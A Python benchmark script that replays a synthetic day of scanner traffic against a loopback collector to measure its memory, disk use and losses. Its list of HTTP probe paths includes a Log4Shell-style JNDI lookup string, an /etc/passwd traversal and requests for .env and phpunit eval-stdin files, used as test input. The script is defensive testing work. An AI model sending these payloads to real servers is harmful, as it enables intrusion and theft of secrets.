"""A day of what scanners send to any address on the Internet, replayed to a running collector: memory, disk, losses.

`python -m benchmarks.noise --share 1.0` replays a whole day (135,000 contacts) as fast as they are answered. Numbers
a day are orders of magnitude of a public address with open ports 53, 80, 25 and 5060, not measured here; each kind is
made anew from a seed, with hostile bytes in every field. Loopback only.
"""

import argparse
import random
import smtplib
import socket
import tempfile
import threading
import time
from collections.abc import Callable
from concurrent.futures import ThreadPoolExecutor
from contextlib import suppress
from dataclasses import dataclass
from pathlib import Path

import dns.message
import dns.query
import psutil

from collector.hitlog.reader import HitReader
from tests.collector.running import Collector, running

SEED = 20261122
A_DAY = {"http": 40_000, "junk": 10_000, "dns": 60_000, "smtp": 5_000, "sip": 20_000}
PARTS = 10
CLIENTS = 8
WAIT_SECONDS = 30
CONFIG = """
[log]
path = "hits.db"
[dns]
listen = ["127.0.0.1:"]
zones = ["t.example.net"]
answers = ["203.0.113.5"]
answers_per_second = 0
[web]
listen = ["127.0.0.1:"]
hosts = ["track.example.net"]
[smtp]
listen = ["127.0.0.1:"]
domains = ["mail.example.com"]
[sip]
listen = ["127.0.0.1:"]
answer = 486
"""
_PATHS = (
    "/", "/.env", "/wp-login.php", "/cgi-bin/luci/;stok=/locale", "/boaform/admin/formLogin?username=admin",
    "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", "/?x=${jndi:ldap://203.0.113.9/a}", "/../../../etc/passwd",
    "/owa/auth/logon.aspx", "/solr/admin/info/system?wt=json", "/%c0%ae%c0%ae/", "/actuator/health", "/robots.txt",
)  # fmt: skip
_JUNK = (
    b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03" + bytes(40),
    b"SSH-2.0-Go\r\n",
    b"\x03\x00\x00\x13\x0e\xe0" + bytes(13),
    b"GET / HTTP/1.1\r\nHost: " + b"a" * 5000 + b"\r\n\r\n",
    bytes(64),
    b"* / HTTP/9.9\r\n\r\n",
    b"CONNECT example.org:443 HTTP/1.1\r\nHost: example.org:443\r\n\r\n",
)


@dataclass(frozen=True, slots=True)
class Reading:
    """The collector after a part of the day."""

    sent: int
    memory_bytes: int
    log_bytes: int
    recorded: int


def main() -> None:
    """Replay and print how memory and disk went."""
    options = argparse.ArgumentParser(description=__doc__)
    options.add_argument("--share", type=float, default=0.02, help="of a day")
    options.add_argument("--listeners", type=int, default=1, help="processes beside the one that writes the log")
    chosen, _ = options.parse_known_args()  # `python -m benchmarks noise` has arguments of its own
    with tempfile.TemporaryDirectory(prefix="noise-") as folder:
        started = time.perf_counter()
        readings = replay(Path(folder), chosen.share, listeners=chosen.listeners)
        seconds = time.perf_counter() - started
    print(f"noise: {chosen.share:g} of a day, {readings[-1].sent:,} contacts in {seconds:.0f} s")
    for one in readings:
        print(
            f"  {one.sent:>8,} sent {one.recorded:>8,} recorded {one.memory_bytes / 1e6:8.1f} MB resident "
            f"{one.log_bytes / 1e6:8.1f} MB of log, {one.log_bytes / max(1, one.recorded):6.0f} bytes a hit"
        )


def replay(folder: Path, share: float, *, listeners: int = 0) -> list[Reading]:
    """Send a share of a day in PARTS parts, all kinds mixed; return how the collector was after each."""
    rng = random.Random(SEED)
    day = [kind for kind, count in A_DAY.items() for _ in range(max(1, round(count * share)))]
    rng.shuffle(day)
    readings = []
    config = f"{CONFIG}[processes]\nlisteners = {listeners}\n"
    with running(folder, config) as collector, ThreadPoolExecutor(CLIENTS) as clients:
        process = psutil.Process(collector.process.pid)
        drain = threading.Thread(target=_drain, args=(collector,), daemon=True)
        drain.start()
        for part in range(PARTS):
            chosen = day[part * len(day) // PARTS : (part + 1) * len(day) // PARTS]
            jobs = [(kind, random.Random(rng.random())) for kind in chosen]
            list(clients.map(lambda job: _SENDERS[job[0]](collector, job[1]), jobs))
            readings.append(_read(folder, process, (part + 1) * len(day) // PARTS))
        HitReader(folder / "hits.db").verify()
        collector.process.terminate()
        drain.join(WAIT_SECONDS)
        for pipe in (collector.process.stdout, collector.process.stderr):
            if pipe:
                pipe.close()
        collector.process.wait(WAIT_SECONDS)
    return readings


def _drain(collector: Collector) -> None:
    """Take what it says on stderr: a pipe that is full would stop it."""
    if collector.process.stderr:
        for _ in collector.process.stderr:
            pass


def _read(folder: Path, process: psutil.Process, sent: int) -> Reading:
    log_bytes = sum(path.stat().st_size for path in folder.glob("hits.db*"))
    memory_bytes = sum(one.memory_info().rss for one in (process, *process.children(recursive=True)))
    return Reading(sent, memory_bytes, log_bytes, HitReader(folder / "hits.db").head().seq)


def _text(rng: random.Random) -> str:
    return "".join(
        chr(rng.choice((rng.randrange(33, 127), rng.randrange(0xA1, 0x2FF)))) for _ in range(rng.randrange(40))
    )


def _http(collector: Collector, rng: random.Random) -> None:
    head = (
        f"{rng.choice(('GET', 'POST', 'HEAD', 'OPTIONS', 'PROPFIND'))} {rng.choice(_PATHS)}{rng.randrange(99)} HTTP/1.1"
    )
    lines = [
        head,
        "Host: 203.0.113.5",
        f"User-Agent: {_text(rng)}",
        f"X-{rng.randrange(9)}: {_text(rng)}",
        "Connection: close",
    ]
    _exchange(collector.port("web"), ("\r\n".join(lines) + "\r\n\r\n").encode("utf-8", "replace"))


def _junk(collector: Collector, rng: random.Random) -> None:
    _exchange(collector.port(rng.choice(("web", "smtp"))), rng.choice(_JUNK) + rng.randbytes(rng.randrange(64)))


def _exchange(port: int, data: bytes) -> None:
    with suppress(OSError), socket.create_connection(("127.0.0.1", port), WAIT_SECONDS) as connection:
        connection.sendall(data)
        connection.shutdown(socket.SHUT_WR)
        while connection.recv(65536):
            pass


def _dns(collector: Collector, rng: random.Random) -> None:
    if rng.random() < 0.1:  # what is no question at all
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as client:
            client.sendto(rng.randbytes(rng.randrange(1, 80)), ("127.0.0.1", collector.port("dns")))
        return
    zone = rng.choice(("t.example.net", "T.eXample.net", "example.com", "version.bind"))
    query = dns.message.make_query(f"{rng.getrandbits(40):x}.{zone}", rng.choice(("A", "ANY", "TXT", "AAAA", "DNSKEY")))
    with suppress(dns.query.UnexpectedSource, OSError, dns.exception.DNSException):
        dns.query.udp(query, "127.0.0.1", WAIT_SECONDS, collector.port("dns"))


def _smtp(collector: Collector, rng: random.Random) -> None:
    with (
        suppress(OSError, smtplib.SMTPException),
        smtplib.SMTP(
            "127.0.0.1", collector.port("smtp"), f"{rng.getrandbits(20):x}.example.org", timeout=WAIT_SECONDS
        ) as client,
    ):
        if rng.random() < 0.5:
            client.login("admin", _text(rng))
        to = rng.choice(("a@mail.example.com", "relay@example.org", "postmaster@mail.example.com"))
        client.sendmail(
            "probe@example.org", [to], f"Subject: {rng.getrandbits(20)}\r\n\r\n{rng.randbytes(200).hex()}\r\n"
        )


def _sip(collector: Collector, rng: random.Random) -> None:
    method = rng.choice(("OPTIONS", "REGISTER", "INVITE"))
    text = (
        f"{method} sip:{rng.randrange(10**6)}@203.0.113.5 SIP/2.0\r\n"
        f"Via: SIP/2.0/UDP 127.0.0.1:5{rng.randrange(999):03d};branch=z9hG4bK{rng.getrandbits(40):x};rport\r\n"
        f"From: <sip:100@203.0.113.5>;tag={rng.getrandbits(30):x}\r\n"
        f"To: <sip:{rng.randrange(10**6)}@203.0.113.5>\r\nCall-ID: {rng.getrandbits(60):x}\r\nCSeq: 1 {method}\r\n"
        f"User-Agent: friendly-scanner {_text(rng)}\r\nContent-Length: 0\r\n\r\n"
    )
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as client:
        client.sendto(text.encode("utf-8", "replace"), ("127.0.0.1", collector.port("sip")))


_SENDERS: dict[str, Callable[[Collector, random.Random], None]] = {
    "http": _http, "junk": _junk, "dns": _dns, "smtp": _smtp, "sip": _sip,
}  # fmt: skip


if __name__ == "__main__":
    main()
